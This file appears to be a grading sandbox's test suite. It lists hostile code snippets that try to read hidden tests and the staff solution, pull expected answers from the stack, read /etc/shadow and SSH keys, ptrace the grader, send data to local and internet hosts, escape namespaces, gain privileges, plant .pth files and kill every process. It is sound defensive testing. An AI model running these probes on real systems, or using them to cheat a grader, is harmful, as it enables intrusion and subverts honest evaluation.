"""Attacks that read, change or kill what a submission must not: cases, tests, other processes.

Each submission answers correctly. Most attacks raise `Reached` if an attempt succeeds.
"""

from staff.tests.grader.hostile.attack import Attack

REACHING = (
    Attack(
        "reads-the-saved-cases",
        "opens the fixtures where they stand, and looks for any file like them",
        """
_never("fixtures", lambda: _os.listdir("@FIXTURES@"))
_never("fixtures", lambda: open("@FIXTURES@/softmax.safetensors", "rb").read(9))
_known = {"softmax.safetensors", "rope.safetensors", "assignment.toml"}
for _folder, _, _names in _os.walk("/", followlinks=False):
    if not _folder.startswith(("/proc", "/usr")):
        _found = _known & set(_names)
        if _folder.endswith("/fixtures") and "manifest.json" in _names:
            _found = {"manifest.json"}
        if _found:
            raise Reached(f"{_folder}: {_found}")
""",
    ),
    Attack(
        "reads-the-tests",
        "opens the tests and the rubric",
        """
for _name in ("tests/test_softmax.py", "tests/assignment.toml", "tests/conftest.py", "README.md"):
    _never("tests", lambda: open(f"@ROOT@/{_name}").read(9))
""",
    ),
    Attack(
        "imports-the-solution",
        "imports the solution, the oracle, the saved cases and the tests from the staff's packages",
        """
import importlib as _importlib

for _name in ("staff.solution.cs336_basics.softmax", "staff.fixtures.oracle", "staff.cli",
              "staff.grader.run", "staff.runner.forks", "staff.validation.judge",
              "tests.test_softmax", "tests.conftest", "tests.harness.plugin"):
    _never(_name, lambda: _importlib.import_module(_name))
_never("solution", lambda: _os.listdir("@ROOT@/staff/solution"))
""",
    ),
    Attack(
        "reads-home-folders",
        "looks for keys and notes of whoever grades",
        """
for _name in ("/home", "/root/.ssh", "/root/.bashrc", "/etc/passwd", "/etc/shadow", "/var", "/run",
              "@HOME@/.ssh", "/autograder"):
    _never(_name, lambda: _os.listdir(_name) if _os.path.isdir(_name) else open(_name).read(9))
""",
    ),
    Attack(
        "reads-other-submissions",
        "lists the folder where the batch lies, by its path and around its own",
        """
_never("the batch", lambda: _os.listdir("@BATCH@"))
_never("a neighbour", lambda: open("@BATCH@/witness/adapters.py").read(9))
_up = _os.path.realpath(_os.path.join(_os.path.dirname(__file__), *[".."] * 40, "@BATCH@"))
_never("the batch", lambda: _os.listdir(_up))
""",
    ),
    Attack(
        "reads-the-environment",
        "looks for the grader's variables in its own and in every process",
        """
_text = repr(dict(_os.environ))
for _file in _Path("/proc").glob("*/environ"):
    with _contextlib.suppress(OSError):
        _text += _file.read_text(errors="replace")
if "@SECRET@" in _text:
    raise Reached(_text)
""",
    ),
    Attack(
        "reads-command-lines",
        "looks for paths or tokens in the arguments of any process",
        """
_text = repr(_sys.argv) + repr(_sys.orig_argv)
for _file in _Path("/proc").glob("*/cmdline"):
    with _contextlib.suppress(OSError):
        _text += _file.read_text(errors="replace")
for _secret in ("@FIXTURES@", "@BATCH@", "pytest", "staff.runner.forks", "@SECRET@"):
    if _secret in _text:
        raise Reached(_text)
""",
    ),
    Attack(
        "counts-processes",
        "sees the grader or other workers in /proc",
        """
_others = [name for name in _os.listdir("/proc") if name.isdecimal() and name != "1"]
if _os.getpid() != 1 or _os.getppid() != 0 or _others:
    raise Reached(f"{_os.getpid()} {_os.getppid()} {_others}")
""",
    ),
    Attack(
        "traces-its-parent",
        "attaches to the grader with ptrace, and reads its memory through /proc and the kernel",
        """
for _pid in (0, 2, _os.getppid(), @PID@):
    for _request in (16, 0x4206):  # attach, seize
        _never("ptrace", lambda: _call(101, _request, _pid, 0, 0))
    _never("memory", lambda: open(f"/proc/{_pid}/mem", "rb").read(1))
_buffer = _ctypes.create_string_buffer(64)
_never("process_vm_readv", lambda: _call(310, @PID@, _ctypes.addressof(_buffer), 1, 0, 1, 0))
_never("pidfd_getfd", lambda: _call(438, 0, 0, 0))
""",
    ),
    Attack(
        "looks-down-the-stack",
        "searches the frames and all objects for what was expected",
        """
import gc as _gc
import inspect as _inspect

_names = {"expected", "answers", "cases", "reference", "Case", "Fixtures", "Suite", "Scoreboard"}


def run_softmax(in_features, dim):
    right = _right(in_features, dim)
    for place in _inspect.stack()[1:]:
        held = {**place.frame.f_locals}
        if _names & set(held):
            raise Reached(str(sorted(_names & set(held))))
    for thing in _gc.get_objects():
        if type(thing).__name__ in _names:
            raise Reached(type(thing).__name__)
    seen = [t for t in _gc.get_objects() if type(t) is _torch.Tensor and t.shape == right.shape]
    if any(t is not right and _torch.equal(t.double(), right.double()) for t in seen):
        raise Reached("an answer")
    return right
""",
    ),
    Attack(
        "finds-harness-modules",
        "finds what compares, saves or scores loaded beside it",
        """
_bad = ("cases", "compare", "fixtures", "plugin", "scoring", "diagnosis")
_found = [n for n in _sys.modules if n.startswith("tests.") and n.rpartition(".")[2] in _bad]
_found += [n for n in _sys.modules if n.startswith(("staff.fixtures", "staff.catalogue", "staff.validation"))]
if _found:
    raise Reached(repr(_found))
""",
    ),
    Attack(
        "uses-inherited-files",
        "uses whatever the grader or other workers left open: the zygote's lines, folders, pipes",
        """
_open = {}
for _number in range(256):
    with _contextlib.suppress(OSError):
        _os.fstat(_number)
        _open[_number] = _os.get_blocking(_number)
_extra = [number for number in _open if number > 2 and number != _line()]
if _extra:
    raise Reached(repr(_extra))
for _number in (0, 1, 2):
    if _os.fstat(_number).st_rdev != _os.makedev(1, 3):
        raise Reached(f"{_number} is not /dev/null")
""",
    ),
    Attack(
        "calls-home",
        "connects to a port of this machine, to the internet, to a name server",
        """
def _dial(family, kind, where):
    with _socket.socket(family, kind) as line:
        line.settimeout(1)
        line.connect(where)
        line.send(b"hidden tests")


for _family, _where in ((_socket.AF_INET, ("127.0.0.1", @PORT@)), (_socket.AF_INET6, ("::1", @PORT@)),
                        (_socket.AF_INET, ("8.8.8.8", 53))):
    for _kind in (_socket.SOCK_STREAM, _socket.SOCK_DGRAM):
        _never("a network", lambda: _dial(_family, _kind, _where))
_never("a name", lambda: _socket.getaddrinfo("example.com", 80))
""",
    ),
    Attack(
        "calls-home-otherwise",
        "uses networks that network namespaces don't hold: vsock, netlink, raw packets, the kernel's",
        """
for _family in (40, 16, 17, 38, 31, 29, 15, 44):
    for _kind in (1, 2, 3, 5):
        _never(f"family {_family}", lambda: _socket.socket(_family, _kind).fileno())
""",
    ),
    Attack(
        "calls-through-local-sockets",
        "connects to an abstract socket of this machine, and to any socket in the file system",
        """
def _dial(where):
    with _socket.socket(_socket.AF_UNIX) as line:
        line.settimeout(1)
        line.connect(where)


_never("abstract", lambda: _dial("\\0@ABSTRACT@"))
_never("a path", lambda: _dial("@BATCH@/line"))
for _name in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    _never(_name, lambda: _dial(_name))
""",
    ),
    Attack(
        "enters-new-namespaces",
        "makes a user namespace, in which it would be root, mount and raise limits",
        """
for _flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x10020000):
    _never("unshare", lambda: _call(272, _flag))
    _never("clone", lambda: _call(56, _flag | 17, 0, 0, 0, 0))
_never("clone3", lambda: _call(435, 0, 0))
if _Path("/proc/sys/user/max_user_namespaces").read_text().strip() != "0":
    raise Reached("user namespaces are allowed")
""",
    ),
    Attack(
        "mounts",
        "mounts a file system, makes the read-only ones writable, and takes some away",
        """
def _mount(source, target, kind, flags):
    if _libc.mount(source, target, kind, _ctypes.c_ulong(flags), None) < 0:
        raise OSError(_ctypes.get_errno(), "refused")


_never("tmpfs", lambda: _mount(b"none", b"/scratch", b"tmpfs", 0))
_never("proc", lambda: _mount(b"none", b"/scratch", b"proc", 0))
for _target in (b"/", b"/usr", b"/submission", b"/proc"):
    _never("remount", lambda: _mount(None, _target, None, 32 | 4096))
    _never("umount", lambda: _call(166, 0, 2))
for _number in (155, 161, 428, 429, 430, 432, 442):  # pivot_root, chroot, the new mount calls
    _never(f"call {_number}", lambda: _call(_number, 0, 0, 0, 0))
""",
    ),
    Attack(
        "escapes-its-root",
        "climbs above its root, enters other namespaces, opens files by handle",
        """
if _os.path.exists("/" + "../" * 60 + "@ROOT@".lstrip("/") + "/pyproject.toml"):
    raise Reached("above the root")
for _number in (303, 304, 308):  # name_to_handle_at, open_by_handle_at, setns
    _never(f"call {_number}", lambda: _call(_number, 0, 0, 0, 0, 0))
for _place in ("/proc/1/root", "/proc/self/root", "/proc/self/cwd/.."):
    if _os.path.exists(f"{_place}/@ROOT@/pyproject.toml"):
        raise Reached(_place)
""",
    ),
    Attack(
        "uses-odd-system-calls",
        "reaches for the keyring, eBPF, io_uring, performance counters, handlers of page faults",
        """
for _number in (248, 249, 250, 298, 321, 323, 425, 426, 427, 312, 435, 246, 175, 313, 135 + 2**30):
    _never(f"call {_number}", lambda: _call(_number, 0, 0, 0, 0, 0))
if _call(39) != _os.getpid():
    raise Reached("calls don't work at all")
""",
    ),
    Attack(
        "gains-privileges",
        "becomes another user, keeps a capability, runs programs that make one root",
        """
for _user in (0, 1, 61000, 61001):
    _never("setuid", lambda: _os.setuid(_user))
    _never("setresuid", lambda: _os.setresuid(_user, _user, _user))
_never("setgroups", lambda: _os.setgroups([0]))
_status = _Path("/proc/1/status").read_text()
for _word in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    if f"{_word}:\\t0000000000000000" not in _status:
        raise Reached(_status)
for _line_ in ("NoNewPrivs:\\t1", "Seccomp:\\t2"):
    if _line_ not in _status:
        raise Reached(_status)
""",
    ),
    Attack(
        "raises-its-limits",
        "gives itself more memory, processes, files and priority",
        """
import resource as _resource

for _what in (_resource.RLIMIT_AS, _resource.RLIMIT_NPROC, _resource.RLIMIT_NOFILE,
              _resource.RLIMIT_FSIZE, _resource.RLIMIT_CPU, _resource.RLIMIT_CORE):
    _soft, _hard = _resource.getrlimit(_what)
    _never("a limit", lambda: _resource.setrlimit(_what, (_hard + 1, _hard + 1)))
    if _hard == _resource.RLIM_INFINITY:
        raise Reached(f"{_what} has no limit")
_never("priority", lambda: _os.setpriority(_os.PRIO_PROCESS, 0, -20))
_never("scheduler", lambda: _os.sched_setscheduler(0, _os.SCHED_FIFO, _os.sched_param(50)))
""",
    ),
    Attack(
        "opens-devices",
        "makes device nodes, and opens disks, memory and terminals",
        """
for _name in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/tty", "/dev/ptmx", "/dev/fuse",
              "/dev/kvm", "/dev/vsock", "/proc/kcore", "/proc/kmsg"):
    _never(_name, lambda: _os.open(_name, _os.O_RDWR))
_never("mknod", lambda: _os.mknod("/scratch/disk", 0o60666, _os.makedev(254, 0)))
""",
    ),
    Attack(
        "turns-knobs-of-the-kernel",
        "writes to /proc/sys and its neighbours",
        """
for _name in ("sys/kernel/core_pattern", "sys/kernel/hostname", "sysrq-trigger", "sys/vm/drop_caches",
              "sys/user/max_user_namespaces", "1/uid_map", "1/gid_map", "self/setgroups",
              "sys/kernel/shmall", "sys/fs/mqueue/msg_max"):
    _never(_name, lambda: open(f"/proc/{_name}", "wb", 0).write(b"1"))
""",
    ),
    Attack(
        "writes-outside-its-scratch",
        "overwrites the submission, Python, its packages, the command, the results; plants a .pth",
        """
import site as _site

for _place in ("/", "/usr", "/usr/bin", "/dev", "/submission", "/submission/cs336_basics", _sys.prefix,
               _os.path.dirname(_torch.__file__), _os.path.dirname(_os.__file__), "@BATCH@", "@ROOT@",
               "@ROOT@/staff", "@FIXTURES@", *_site.getsitepackages()):
    _never(_place, lambda: open(f"{_place}/zzz.pth", "w").write("import os"))
for _file in (__file__, _sys.executable, "@CANARY@", "@ROOT@/staff/cli.py", _torch.__file__):
    _never(_file, lambda: open(_file, "a").write("x"))
    _never(_file, lambda: _os.remove(_file))
    _never(_file, lambda: _os.utime(_file))
""",
    ),
    Attack(
        "plants-links",
        "puts links to what it can't reach where a grader might follow them, and hard links",
        """
_os.symlink("@CANARY@", "/scratch/results.json")
_never("through a link", lambda: open("/scratch/results.json", "a").write("x"))
_never("hard link", lambda: _os.link(__file__, "/scratch/adapters.py"))
_os.makedirs("/scratch/tests/fixtures")
_os.mkfifo("/scratch/grade.json")
""",
    ),
    Attack(
        "signals-everybody",
        "sends SIGKILL to every process, to its group, to the grader by number",
        """
for _pid in (-1, @PID@, 2, -@PID@):
    with _contextlib.suppress(OSError):
        _os.kill(_pid, _signal.SIGKILL)
with _contextlib.suppress(OSError):
    _os.kill(_os.getppid() or -1, _signal.SIGKILL)
for _what in (_signal.SIGTERM, _signal.SIGSTOP, _signal.SIGHUP):
    with _contextlib.suppress(OSError):
        _os.kill(-1, _what)
""",
    ),
)
